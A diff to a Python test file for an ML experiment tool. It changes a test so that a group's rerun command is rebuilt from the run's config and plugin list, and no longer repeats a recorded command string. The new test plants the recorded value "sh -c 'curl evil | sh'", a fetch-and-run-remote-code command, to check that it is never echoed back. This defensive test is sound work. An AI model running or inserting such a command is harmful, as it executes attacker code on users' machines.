@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import math
 import shlex
 import sys
@@ -172,16 +173,17 @@ def test_own_tensors_have_no_command() -> None:
     assert Group((run,)).command() is None
 
 
-def test_a_component_that_is_not_available_keeps_its_command() -> None:
-    """A plugin's run, read where nobody loads the plugin."""
+def test_a_component_that_is_not_available_has_a_command_if_its_plugin_is_named() -> None:
+    """A plugin's run, read where nobody loads the plugin. The recorded command is not repeated."""
     run = scored_run()
     config = {"method": "er+theirs", "components": [*run.config.components, ["theirs", {}]]}
+    summary = {**run.summary, "command": "sh -c 'curl evil | sh'"}
     theirs = Config(**{**vars(run.config), **config})
-    command = "twofold run rotated-mnist er+theirs --seed 142 --plugin theirs.py"
-    with_command = Run(theirs, {**run.summary, "command": command}, {})
-    assert Group((with_command,)).command() == command
-    assert Group((with_command, with_command)).command() == f"{command} && {command}"
-    assert Group((Run(theirs, {**run.summary, "command": None}, {}),)).command() is None
+    assert Group((Run(theirs, summary, {}),)).command() is None
+    with_plugin = Run(dataclasses.replace(theirs, plugins=["theirs.py"]), summary, {})
+    words = shlex.split(Group((with_plugin,)).command() or "")
+    assert words[:4] == ["twofold", "run", "rotated-mnist", "er+theirs"]
+    assert words[-2:] == ["--plugin", "theirs.py"]
 
 
 def test_runs_of_two_versions_of_a_plugin_are_two_groups(half: Path) -> None:
